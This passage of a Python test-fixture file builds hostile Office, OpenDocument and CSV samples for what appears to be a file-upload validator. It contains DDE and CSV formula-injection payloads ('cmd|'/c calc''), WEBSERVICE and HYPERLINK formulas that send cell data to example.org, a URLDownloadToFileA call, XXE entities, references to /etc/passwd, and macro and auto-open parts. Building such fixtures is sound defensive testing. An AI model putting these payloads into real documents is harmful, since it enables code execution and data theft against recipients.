    yield Sample("svg event.docx", lambda: svg_in_docx(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))
    yield Sample(
        "svg remote.docx",
        lambda: svg_in_docx(
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image x:href="//example.org/a"/></svg>'
        ),
    )
    yield Sample(
        "flood inside.docx", lambda: with_rel("image", "media/a.png", ("word/media/a.png", png_header(50_000, 50_000)))
    )
    yield Sample("activex.docx", lambda: with_rel("control", "activeX/a.xml", ("word/activeX/a.xml", "<a/>")))
    yield Sample("deep.docx", lambda: with_document("<a>" * 200_000 + "</a>" * 200_000))


def _workbooks() -> Iterator[Sample]:
    """Excel workbooks."""
    yield Sample("macro.xlsx", lambda: xlsx(parts={"xl/vbaProject.bin": VBA["word/vbaProject.bin"]}))
    yield Sample("xlm.xlsx", lambda: xlsx(parts={"xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='x'/>"}))
    yield Sample(
        "auto open.xlsx",
        lambda: workbook_with(
            '<definedNames><definedName name="_xlnm.Auto_Open">Sheet!$A$1</definedName></definedNames>'
        ),
    )
    yield Sample("dde formula.xlsx", lambda: sheet_formula("cmd|'/c calc'!A0"))
    yield Sample("webservice.xlsx", lambda: sheet_formula("WEBSERVICE(&quot;https://example.org/&quot;&amp;A1)"))
    yield Sample("call.xlsx", lambda: sheet_formula("CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)"))
    yield Sample("external book.xlsx", lambda: sheet_formula("[1]Sheet1!A1"))
    yield Sample("unc.xlsx", lambda: sheet_formula("'\\\\198.51.100.1\\a\\[b.xlsx]S'!A1"))
    yield Sample(
        "external link.xlsx",
        lambda: patch(
            xlsx(),
            "xl/_rels/workbook.xml.rels",
            "</Relationships>",
            f'<Relationship Id="e1" Type="{REL}/externalLink" Target="externalLinks/e.xml"/></Relationships>',
        ),
    )
    yield Sample(
        "connection.xlsx",
        lambda: patch(
            xlsx(),
            "xl/_rels/workbook.xml.rels",
            "</Relationships>",
            f'<Relationship Id="e1" Type="{REL}/connections" Target="connections.xml"/></Relationships>',
        ),
    )
    yield Sample("xxe.xlsx", lambda: xlsx(parts={"xl/sharedStrings.xml": f"{HEAD}{XXE}<sst>&x;</sst>"}))
    yield Sample("entities.xlsx", lambda: xlsx(parts={"xl/styles.xml": f"{HEAD}{ENTITIES}<s>&j;</s>"}))
    yield Sample("custom ui.xlsx", lambda: xlsx(parts={"customUI/customUI.xml": "<customUI onLoad='Evil'/>"}))


def _open_documents() -> Iterator[Sample]:
    """OpenDocument files."""
    yield Sample("basic.odt", lambda: odf(parts={"Basic/Standard/Module1.xml": "<a/>"}))
    yield Sample("python.odt", lambda: odf(parts={"Scripts/python/evil.py": "import os"}))
    yield Sample(
        "event.odt",
        lambda: odf(
            content='<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts>'
        ),
    )
    yield Sample(
        "link script.odt",
        lambda: odf(content='<text:a xlink:href="vnd.sun.star.script:x$y?language=Python">x</text:a>'),
    )
    yield Sample("remote picture.odt", lambda: odf(content='<draw:image xlink:href="https://example.org/a.png"/>'))
    yield Sample("file picture.odt", lambda: odf(content='<draw:image xlink:href="../../../etc/passwd"/>'))
    yield Sample("section.odt", lambda: odf(content='<text:section-source xlink:href="file:///etc/passwd"/>'))
    yield Sample("dde.ods", lambda: odf("spreadsheet", "<table:dde-link><office:dde-source/></table:dde-link>"))
    yield Sample(
        "webservice.ods",
        lambda: odf(
            "spreadsheet", '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://example.org&quot;)"/>'
        ),
    )
    yield Sample("xxe.odt", lambda: odf(parts={"content.xml": f"{HEAD}{XXE}<a>&x;</a>"}))
    yield Sample(
        "password.odt",
        lambda: odf(
            manifest='<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
        ),
    )
    yield Sample("ole.odt", lambda: odf(content='<draw:object-ole xlink:href="./Object 1"/>'))


def _tables() -> Iterator[Sample]:
    """CSV that a spreadsheet would run."""
    for number, cell in enumerate(
        (
            "=cmd|'/c calc'!A0",
            "+cmd|' /c calc'!A0",
            "-2+3+cmd|x!A0",
            "@SUM(1+1)*cmd|x!A0",
            '"=1+1"',
            "\t=1+1",
            '=HYPERLINK("https://example.org?"&A1)',
        )
    ):
        yield Sample(f"formula {number}.csv", lambda cell=cell: f"país;casos\nCosta Rica;{cell}\n".encode())


_GROUPS = (
    _mislabelled,
    _names,
    _broken,
    _polyglots,
    _pdfs,
    _pictures,
    _packages,
    _documents,
    _workbooks,
    _open_documents,
    _tables,
)
HOSTILE = [sample for group in _GROUPS for sample in group()]
